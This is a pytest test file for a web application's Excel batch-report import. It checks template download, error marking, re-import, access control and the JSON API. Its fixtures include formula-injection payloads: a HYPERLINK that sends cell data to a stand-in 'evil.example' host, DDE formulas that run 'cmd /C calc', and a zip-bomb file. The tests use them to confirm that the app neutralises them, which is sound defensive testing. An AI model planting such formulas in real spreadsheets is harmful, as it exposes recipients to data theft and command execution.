"""Excel batch reports through HTTP: 模板下载 → 填写 → 选择文件 → 导入 → 错误信息 → 修改后再次导入 → 审核通过."""
import io
import re

import openpyxl
import pytest
from bs4 import BeautifulSoup
from sqlalchemy import func, select

from engine.batch.template import LISTS_SHEET, META_SHEET
from engine.models import BatchImport, BatchRow, Case, Position
from tests import factories as f
from tests.data import batch_rows
from tests.data import workbooks as wbs
from tests.openapi import assert_matches_spec
from tests.webapp.pages import fresh

ITEMS = ["match_report", "attendance_report", "onduty_report"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def counts(dbsession):
    dbsession.expire_all()
    return (dbsession.scalar(select(func.count()).select_from(Case).where(Case.workflow_key == "batch")),
            dbsession.scalar(select(func.count()).select_from(BatchRow)))


def book(body: bytes):
    return openpyxl.load_workbook(io.BytesIO(body))


def fill(template: bytes, rows: list[dict], item) -> bytes:
    """What a user does: open the downloaded template in a spreadsheet program, type rows, save."""
    wb = book(template)
    ws = wb.worksheets[0]
    for r, row in enumerate(rows, start=2):
        for c, fl in enumerate(item.fields, start=1):
            if row.get(fl.key) is not None:
                cell = ws.cell(row=r, column=c, value=row[fl.key])
                if isinstance(row[fl.key], str):
                    cell.data_type = "s"  # typed as text (in Excel: a leading apostrophe), never a formula
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def upload(web, key, data, status=None, filename="上报.xlsx"):
    return web.post(f"/items/{key}/import", upload_files=[("file", filename, data)], status=status)


def error_table(page) -> list[tuple]:
    soup = BeautifulSoup(page.text, "html.parser")
    table = soup.find(attrs={"data-testid": "error-table"})
    return [tuple(td.get_text(strip=True) for td in tr.find_all("td")) for tr in table.tbody.find_all("tr")]


@pytest.fixture
def unit(web, world):
    web.login(world["unit"].login_name)
    return web


@pytest.fixture
def plain_unit(web, dbsession):
    """A unit with nothing approved: enough for attendance files that never get past the file checks."""
    account = f.unit_account(dbsession)
    dbsession.commit()
    web.login(account.login_name)
    return web


@pytest.fixture
def people(world):
    return batch_rows.match_rows(3, [world["position"].name])


def import_match(web, catalogue, people):
    item = catalogue.item("match_report")
    template = web.app.get("/items/match_report/template.xlsx").body
    return upload(web, "match_report", fill(template, people, item), status=303)


# ---- 模板下载 -------------------------------------------------------------------------

@pytest.mark.parametrize("key", ITEMS)
def test_template_download_has_headers_dropdowns_and_text_columns(unit, world, catalogue, key):
    item = catalogue.item(key)
    page = unit.app.get(f"/items/{key}")
    link = BeautifulSoup(page.text, "html.parser").find(attrs={"data-testid": "template-download"})["href"]
    response = unit.app.get(link)
    assert response.content_type == XLSX
    assert "attachment" in response.headers["Content-Disposition"]
    wb = book(response.body)
    ws = wb.worksheets[0]
    assert [c.value for c in ws[1]] == [("*" if fl.required else "") + fl.label for fl in item.fields]
    lists = {c.value for row in wb[LISTS_SHEET].iter_rows() for c in row if c.value}
    validated = {str(rng.coord).split(":")[0][:-1] for dv in ws.data_validations.dataValidation
                 if dv.type == "list" for rng in dv.sqref.ranges}
    for i, fl in enumerate(item.fields):
        letter = openpyxl.utils.get_column_letter(i + 1)
        if fl.enum:
            assert letter in validated and set(fl.enum) <= lists
        if fl.format == "id-number":
            assert ws.column_dimensions[letter].number_format == "@"
        if fl.format == "date":
            assert ws.column_dimensions[letter].number_format == "yyyy-mm-dd"
    if key == "match_report":
        assert world["position"].name in lists
    assert {r[0].value: r[1].value for r in wb[META_SHEET].iter_rows()}["item"] == key
    assert "填写说明" in wb.sheetnames


# ---- 导入 → 审核通过 ---------------------------------------------------------------------

def test_a_clean_match_report_lands_under_approved_with_masked_rows(unit, world, catalogue, dbsession, people):
    result = import_match(unit, catalogue, people)
    assert re.search(r"/items/match_report\?imported=\d+$", result.location)
    page = result.follow()
    assert "导入成功：共3行" in page.text
    success = BeautifulSoup(page.text, "html.parser").find(attrs={"data-testid": "import-success"})
    links = {a.get_text(strip=True): a["href"] for a in success.find_all("a")}
    assert links["到个人中心查看（审核通过）"] == "/me/cases?state=approved"
    rows_page = unit.app.get(links["查看导入明细"])
    cells = [td.get_text(strip=True) for td in rows_page.html.select('td[data-field="id_number"]')]
    assert cells == [people[i]["id_number"][:4] + "*" * 10 + people[i]["id_number"][-4:] for i in range(3)]
    assert people[0]["id_number"] not in rows_page.text
    assert people[0]["mobile"] not in rows_page.text
    case = dbsession.scalar(select(Case).where(Case.item_key == "match_report"))
    assert case.state == "approved" and case.row_count == 3
    approved = unit.app.get("/me/cases", params={"state": "approved"})
    assert f'data-case="{case.id}"' in approved.text and "共3行" in approved.text
    # The result is shown for this item's case only, and an address no case can have is the plain page
    # (it was a server error on PostgreSQL).
    for imported in (str(case.id), "99999999999", "abc"):
        shown = unit.app.get("/items/match_report", params={"imported": imported})
        assert ('data-testid="import-success"' in shown.text) == (imported == str(case.id))
    assert 'data-testid="import-success"' not in unit.app.get(f"/items/attendance_report?imported={case.id}").text


@pytest.mark.parametrize("key", ["attendance_report", "onduty_report"])
def test_monthly_reports_for_the_matched_roster(unit, world, catalogue, people, key):
    import_match(unit, catalogue, people)
    item = catalogue.item(key)
    rows = (batch_rows.attendance_rows if key == "attendance_report" else batch_rows.onduty_rows)(people, "2026-10")
    template = unit.app.get(f"/items/{key}/template.xlsx").body
    page = upload(unit, key, fill(template, rows, item), status=303).follow()
    assert "导入成功：共3行" in page.text


# ---- 错误信息 → 标注工作簿 → 修改后再次导入 ------------------------------------------------------

def test_errors_are_listed_marked_in_the_workbook_and_fixing_them_imports(unit, world, catalogue, dbsession, people):
    item = catalogue.item("match_report")
    template = unit.app.get("/items/match_report/template.xlsx").body
    bad = [dict(p) for p in people]
    bad[1]["mobile"] = "1381234"
    bad[2]["position"] = "=HYPERLINK(\"http://evil\",\"点我\")"
    bad[2]["allowance"] = "两千"
    before = counts(dbsession)
    page = upload(unit, "match_report", fill(template, bad, item), status=422)
    assert "导入失败：共3处错误（涉及2行），未写入任何数据" in page.text
    assert error_table(page) == [
        ("3", "手机号", "1381234", "手机号应为11位手机号码，如13812345678"),
        ("4", "见习岗位", "=HYPERLINK(\"http://evil\",\"点我\")",
         "“=HYPERLINK(\"http://evil\",\"点我\")”不是本单位审核通过的见习岗位，请从下拉列表中选择"),
        ("4", "基本生活补助(元/月)", "两千", "基本生活补助(元/月)须为整数，请只填写数字"),
    ]
    assert counts(dbsession) == before

    link = page.html.find(attrs={"data-testid": "errors-download"})["href"]
    marked = unit.app.get(link)
    assert marked.content_type == XLSX
    wb = book(marked.body)
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    assert header[-1] == "错误原因"
    mobile = ws.cell(row=3, column=header.index("*手机号") + 1)
    assert mobile.fill.fgColor.rgb.endswith("FF9999") and mobile.comment.text == "手机号应为11位手机号码，如13812345678"
    position = ws.cell(row=4, column=header.index("*见习岗位") + 1)
    assert position.data_type == "s" and position.value.startswith("'=HYPERLINK")  # neutralised
    assert ws.cell(row=4, column=len(header)).value.count("；") == 1
    assert ws.cell(row=2, column=len(header)).value is None
    untouched = ws.cell(row=2, column=header.index("*姓名") + 1)
    assert untouched.value == people[0]["name"] and untouched.fill.fill_type is None

    # Fix the marked cells in the marked workbook itself and import it again.
    ws.cell(row=3, column=header.index("*手机号") + 1).value = "13900001111"
    ws.cell(row=4, column=header.index("*见习岗位") + 1).value = world["position"].name
    ws.cell(row=4, column=header.index("*基本生活补助(元/月)") + 1).value = 2600
    out = io.BytesIO()
    wb.save(out)
    done = upload(unit, "match_report", out.getvalue(), status=303).follow()
    assert "导入成功：共3行" in done.text


def test_only_the_importing_account_gets_the_marked_workbook(unit, world, catalogue, make_web, dbsession, people):
    item = catalogue.item("match_report")
    bad = [{**people[0], "mobile": "1"}]
    page = upload(unit, "match_report", wbs.workbook(item, bad), status=422)
    link = page.html.find(attrs={"data-testid": "errors-download"})["href"]
    for login, tab in ((world["other"].login_name, "unit"), ("sheng", "staff")):
        stranger = make_web()
        stranger.login(login, tab=tab)
        stranger.app.get(link, status=404)
    make_web().app.get(link, status=303)  # anonymous: to the login page
    unit.app.get(link.replace(link.split("/")[2], "0" * 32), status=404)


def test_reimport_of_the_same_person_and_month_replaces_the_earlier_row(unit, world, catalogue, dbsession, people):
    import_match(unit, catalogue, people)
    item = catalogue.item("attendance_report")
    template = unit.app.get("/items/attendance_report/template.xlsx").body
    rows = batch_rows.attendance_rows(people, "2026-10")
    upload(unit, "attendance_report", fill(template, rows, item), status=303)
    corrected = [{**rows[0], "attended_days": 19, "leave_days": 1, "absent_days": 1}]
    page = upload(unit, "attendance_report", fill(template, corrected, item), status=303).follow()
    assert "其中1行替换了此前上报的同一人员同一期间的记录" in page.text
    active = dbsession.scalars(select(BatchRow).where(BatchRow.item_key == "attendance_report",
                                                      BatchRow.id_number == rows[0]["id_number"])
                               .order_by(BatchRow.id)).all()
    assert [(r.active, r.data["attended_days"]) for r in active] == [(False, 20 if rows[0]["leave_days"] else 21),
                                                                     (True, 19)]
    first, second = dbsession.scalars(select(Case).where(Case.item_key == "attendance_report").order_by(Case.id)).all()
    assert "1行替换了此前上报" in second.events[-1].comment
    old_rows = unit.app.get(f"/cases/{first.id}/rows")
    assert old_rows.text.count('data-state="replaced"') == 1 and old_rows.text.count('data-state="active"') == 2


def test_a_revoked_match_report_frees_its_places_on_the_position(unit, world, catalogue, make_web, dbsession,
                                                                  people):
    position = world["position"]

    def matched():
        fresh(dbsession)
        return dbsession.scalar(select(Position.matched).where(Position.id == position.id))

    import_match(unit, catalogue, people)
    assert matched() == 3
    case = dbsession.scalar(select(Case).where(Case.item_key == "match_report"))
    reviewer = make_web()
    reviewer.login("taiyuan", tab="staff")
    res = reviewer.app.post_json(f"/api/cases/{case.id}/transitions/revoke", {"comment": "名单有误，单位重新上报"},
                                 headers={"X-CSRF-Token": reviewer.csrf()})
    assert res.json["state"] == "revoked"
    assert matched() == 0
    assert not dbsession.scalars(select(BatchRow.active).where(BatchRow.case_id == case.id)).all().count(True)
    public = unit.app.get(f"/api/positions/{position.id}").json
    assert public["remaining"] == public["openings"]
    import_match(unit, catalogue, people)  # the same people may be reported again
    assert matched() == 3


# ---- bad files ----------------------------------------------------------------------------------

BAD_FILES = [
    ("not-an-xlsx.xlsx", lambda item: bytes(range(256)) * 8, 415, "所选文件不是Excel工作簿（.xlsx）"),
    ("old.xls", lambda item: wbs.xls_bytes(), 415, "旧版Excel 97-2003（.xls）"),
    ("renamed.xlsx", lambda item: wbs.csv_bytes(), 415, "这是CSV或文本文件"),
    ("locked.xlsx", lambda item: wbs.encrypted_xlsx_bytes(), 415, "设置了打开密码"),
    ("empty.xlsx", lambda item: wbs.raw_workbook([], [], key=item.key), 422, "是空的，连表头也没有"),
    ("header.xlsx", lambda item: wbs.raw_workbook(wbs.headers(item), [], key=item.key), 422, "模板中只有表头，没有数据"),
    ("bomb.xlsx", lambda item: wbs.zip_bomb(300), 413, "解压后达300.0MB"),
    ("foreign.xlsx", lambda item: wbs.raw_workbook(wbs.headers(item), [["x"]], key=None), 422,
     "不是从本系统下载的"),
    ("old-template.xlsx", lambda item: wbs.raw_workbook(wbs.headers(item), [["x"]], key=item.key, version=0), 422,
     "模板已过期"),
]


@pytest.mark.parametrize("filename, make, status, text", BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_bad_files_get_one_clear_message_and_nothing_is_written(plain_unit, catalogue, dbsession, filename, make,
                                                                status, text):
    item = catalogue.item("attendance_report")
    before = counts(dbsession)
    page = upload(plain_unit, item.key, make(item), status=status, filename=filename)
    message = page.html.find(attrs={"data-testid": "file-error"}).get_text(" ", strip=True)
    assert text in message
    assert counts(dbsession) == before
    assert dbsession.scalar(select(func.count()).select_from(BatchImport)) == 0


@pytest.fixture
def small_limits(app_settings, catalogue, session_factory):
    from webtest import TestApp

    from tests.webapp.conftest import Web
    from webapp import make_app
    app = make_app({**app_settings, "jianxi.import_max_rows": "3", "jianxi.import_max_mb": "0.05"}, catalogue)
    yield Web(TestApp(app, extra_environ={"HTTP_HOST": "localhost", "REMOTE_ADDR": "127.0.0.1"}))
    app.registry["db_engine"].dispose()


def test_row_and_size_limits_come_from_the_settings(small_limits, world, catalogue, dbsession, people):
    small_limits.login(world["unit"].login_name)
    item = catalogue.item("match_report")
    four = batch_rows.match_rows(4, [world["position"].name])
    page = upload(small_limits, "match_report", wbs.workbook(item, four), status=413)
    assert "共有4行数据，超过每次最多导入3行的限制" in page.text
    big = wbs.workbook(item, four[:3]) + b"\x00" * 60_000  # over 0.05 MB (51 KB)
    page = upload(small_limits, "match_report", big, status=413)
    assert "KB，超过0.05MB的限制" in page.text
    huge = big + b"\x00" * 200_000  # refused from its Content-Length, before the body is parsed
    page = upload(small_limits, "match_report", huge, status=413)
    assert "文件超过0.05MB的限制" in page.text and "不超过0.05MB" in page.text
    assert counts(dbsession) == (0, 0)


def test_no_file_chosen(plain_unit):
    page = plain_unit.post("/items/attendance_report/import", status=400)
    assert "请先选择要导入的Excel文件" in page.text


# ---- who may import ----------------------------------------------------------------------------

def test_match_report_needs_an_approved_unit_application(web, dbsession, catalogue):
    people = batch_rows.match_rows(2, ["软件开发见习生"])
    fresh = f.unit_account(dbsession, name="新注册公司")
    dbsession.commit()
    web.login(fresh.login_name)
    page = web.app.get("/items/match_report")
    assert "尚未通过就业见习单位申请" in page.html.find(attrs={"data-testid": "blocked"}).get_text()
    assert page.html.find("button", string="导入").has_attr("disabled")
    item = catalogue.item("match_report")
    page = upload(web, "match_report", wbs.workbook(item, people), status=403)
    assert "尚未通过就业见习单位申请" in page.text
    r = web.app.post("/api/items/match_report/imports", upload_files=[("file", "a.xlsx", wbs.workbook(item, people))],
                     headers={"X-CSRF-Token": web.csrf()}, status=403)
    assert_matches_spec(r)
    assert "尚未通过就业见习单位申请" in r.json["error"]
    assert counts(dbsession) == (0, 0)


def test_only_units_use_batch_items(make_web, dbsession):
    individual = f.individual_account(dbsession)
    dbsession.commit()
    person = make_web()
    person.login(individual.login_name, tab="individual")
    person.app.get("/items/attendance_report", status=403)
    person.app.get("/items/attendance_report/template.xlsx", status=403)
    person.post("/items/attendance_report/import", status=403)
    anonymous = make_web()
    assert anonymous.app.get("/items/attendance_report", status=303).location.startswith("http://localhost/login")
    anonymous.app.get("/api/items/attendance_report/template.xlsx", status=401)


def test_the_rows_page_belongs_to_the_owner_unit(unit, world, catalogue, make_web, dbsession, people):
    import_match(unit, catalogue, people)
    case = dbsession.scalar(select(Case).where(Case.item_key == "match_report"))
    other = make_web()
    other.login(world["other"].login_name)
    other.app.get(f"/cases/{case.id}/rows", status=403)
    reviewer = make_web()
    reviewer.login("datong", tab="staff")
    reviewer.app.get(f"/cases/{case.id}/rows", status=404)
    unit.app.get(f"/cases/{world['unit_case'].id}/rows", status=404)  # not a batch


FORMULAS = {"A1": '=HYPERLINK("http://evil.example/?"&A2,"点此查看详情")', "A2": "=cmd|' /C calc'!A0",
            "B1": "=1+1", "B2": "@SUM(1+1)*cmd|' /C calc'!A0", "C1": "+1+cmd|' /C calc'!A0", "C2": "-2+3"}


def with_formulas(body: bytes) -> bytes:
    """The filled template plus a sheet of formulas a unit could slip in (the import reads the first sheet)."""
    wb = book(body)
    ws = wb.create_sheet("附表")
    for ref, formula in FORMULAS.items():
        ws[ref] = formula
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_the_unit_and_administrators_get_the_file_as_uploaded_reviewers_a_copy_with_formulas_as_text(
        unit, world, catalogue, make_web, dbsession, people):
    item = catalogue.item("match_report")
    sent = with_formulas(fill(unit.app.get("/items/match_report/template.xlsx").body, people, item))
    uploaded = book(sent)["附表"]
    assert [uploaded[ref].data_type for ref in FORMULAS] == ["f", "f", "f", "s", "s", "s"]   # live, as uploaded
    upload(unit, "match_report", sent, status=303, filename="九月匹配.xlsx")
    case = dbsession.scalar(select(Case).where(Case.item_key == "match_report"))
    for page in (unit.app.get(f"/cases/{case.id}"), unit.app.get(f"/cases/{case.id}/rows")):
        link = page.html.find(attrs={"data-testid": "source-file"})
        assert link.get_text(strip=True) == "下载原始文件（原样）" and "九月匹配.xlsx" in link.parent.get_text()
    original = link["href"]
    got = unit.app.get(original)
    assert got.body == sent  # byte for byte what was uploaded
    assert got.content_type == XLSX
    assert "filename*=UTF-8''%E4%B9%9D%E6%9C%88%E5%8C%B9%E9%85%8D.xlsx" in got.headers["Content-Disposition"]
    admin = make_web()
    admin.login("admin", tab="staff")
    assert admin.app.get(original).body == sent

    reviewer = make_web()
    reviewer.login("taiyuan", tab="staff")
    review_link = reviewer.app.get(f"/review/cases/{case.id}").html.find(attrs={"data-testid": "source-file"})
    assert review_link.get_text(strip=True) == "下载原文件（公式已转为文本）"
    reviewer.app.get(original, status=404)          # not the live file
    copy = reviewer.app.get(review_link["href"])
    assert copy.content_type == XLSX and copy.body != sent
    assert "attachment" in copy.headers["Content-Disposition"] and \
        "%E5%85%AC%E5%BC%8F%E5%B7%B2%E8%BD%AC%E4%B8%BA%E6%96%87%E6%9C%AC" in copy.headers["Content-Disposition"]
    copied = book(copy.body)
    assert copied.sheetnames == book(sent).sheetnames
    assert all(cell.data_type != "f" for ws in copied.worksheets for row in ws.iter_rows() for cell in row)
    extra = copied["附表"]
    assert {ref: extra[ref].value for ref in FORMULAS} == {ref: "'" + text for ref, text in FORMULAS.items()}
    rows = [[c.value for c in r] for r in copied.worksheets[0].iter_rows(min_row=2, max_row=4)]
    assert [r[:2] for r in rows] == [[p["name"], p["id_number"]] for p in people]   # the data, where it was

    outsider = make_web()
    outsider.login("datong", tab="staff")
    outsider.app.get(review_link["href"], status=404)
    outsider.app.get(original, status=404)
    other = make_web()
    other.login(world["other"].login_name)
    other.app.get(original, status=403)
    other.app.get(review_link["href"], status=403)
    unit.app.get(review_link["href"], status=403)       # the unit has its own file
    unit.app.get(f"/cases/{world['unit_case'].id}/import.xlsx", status=404)  # not a batch
    reviewer.app.get(f"/cases/{world['unit_case'].id}/import-text.xlsx", status=404)


# ---- the JSON API ------------------------------------------------------------------------------------

def api_upload(web, key, data, status):
    return web.app.post(f"/api/items/{key}/imports", upload_files=[("file", "report.xlsx", data)],
                        headers={"X-CSRF-Token": web.csrf()}, status=status)


def test_api_template_and_import(unit, world, catalogue, dbsession, people):
    template = unit.app.get("/api/items/match_report/template.xlsx")
    assert_matches_spec(template)
    assert template.content_type == XLSX
    item = catalogue.item("match_report")
    bad = [dict(p) for p in people]
    bad[0]["id_number"] = bad[0]["id_number"][:17] + ("0" if bad[0]["id_number"][17] != "0" else "1")
    bad[2]["id_number"] = bad[1]["id_number"]
    r = api_upload(unit, "match_report", fill(template.body, bad, item), 422)
    assert_matches_spec(r)
    assert r.json["total"] == 2
    assert r.json["errors"] == [
        {"row": 2, "column": "身份证号", "value": bad[0]["id_number"], "message": "身份证号校验位错误，请核对第18位"},
        {"row": 4, "column": "身份证号", "value": bad[1]["id_number"], "message": "身份证号与第3行重复"},
    ]
    assert unit.app.get(r.json["errors_url"]).content_type == XLSX
    assert counts(dbsession) == (0, 0)

    r = api_upload(unit, "match_report", fill(template.body, people, item), 201)
    assert_matches_spec(r)
    assert r.json["rows"] == 3 and r.json["replaced"] == 0
    assert r.json["case"]["state"] == "approved" and r.json["case"]["state_label"] == "审核通过"
    assert r.location.endswith(f"/api/cases/{r.json['case']['id']}")
    assert unit.app.get(r.json["case"]["rows_url"]).status_int == 200


@pytest.mark.parametrize("make, status", [(lambda item: wbs.xls_bytes(), 415), (lambda item: wbs.zip_bomb(300), 413),
                                          (lambda item: wbs.raw_workbook(wbs.headers(item), [], key=item.key), 422)])
def test_api_bad_files(plain_unit, catalogue, make, status):
    item = catalogue.item("attendance_report")
    r = api_upload(plain_unit, item.key, make(item), status)
    assert_matches_spec(r)
    assert r.json["error"]


def test_api_refuses_form_items_and_strangers(plain_unit, make_web, catalogue):
    unit = plain_unit
    unit.app.get("/api/items/unit_application/template.xlsx", status=404)
    r = api_upload(unit, "unit_application", b"x", 404)
    assert_matches_spec(r)
    anonymous = make_web()
    r = anonymous.app.post("/api/items/attendance_report/imports", upload_files=[("file", "a.xlsx", b"x")],
                           status=401)
    assert_matches_spec(r)
    r = unit.app.post("/api/items/attendance_report/imports", upload_files=[("file", "a.xlsx", b"x")], status=400)
    assert_matches_spec(r)  # no CSRF token
